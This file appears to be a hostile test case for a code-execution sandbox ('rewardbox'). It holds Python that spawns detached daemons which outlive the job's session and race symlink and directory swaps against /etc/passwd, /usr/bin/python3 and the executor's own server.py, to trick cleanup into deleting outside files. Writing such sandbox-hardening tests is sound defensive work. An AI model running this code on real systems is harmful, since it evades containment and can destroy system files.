# attack: daemons (own session, so the end of the program's process group spares
#   them) swap, as fast as they can, a regular file with a symbolic link to an
#   outside file (rename over it) and a real directory with a symbolic link to an
#   outside folder (renameat2 RENAME_EXCHANGE), in the work dir and in /tmp, while
#   the job ends: whatever the reset finds mid-swap, it must kill them first and then
#   unlink the links, never their targets; repeated for different interleavings.
# language: python
# expect: accepted
# expected_output: racing
# limits: {"time_limit_s": 2, "wall_time_limit_s": 4, "memory_limit_mb": 256}
# repeat: 5
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2


def exchange(a: bytes, b: bytes) -> None:
    libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)


def swapper(root: str, outside_file: str, outside_dir: str) -> None:
    os.chdir(root)
    os.mkdir("d")
    with open("d/inside", "w") as f:
        f.write("mine")
    os.symlink(outside_dir, "dlink")
    n = 0
    while True:
        n += 1
        with open("f.tmp", "w") as f:
            f.write("mine")
        os.replace("f.tmp", "f")
        os.symlink(outside_file, "l.tmp")
        os.replace("l.tmp", "f")
        exchange(b"d", b"dlink")
        if n % 64 == 0:
            os.sched_yield()


for root, outside_file, outside_dir in (
    (os.getcwd(), "/opt/rewardbox/executor/server.py", "/opt/rewardbox/executor"),
    ("/tmp", "/etc/passwd", "/etc"),
    ("/dev/shm", "/usr/bin/python3", "/usr/bin"),
):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            try:
                swapper(root, outside_file, outside_dir)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
time.sleep(0.2)
print("racing")
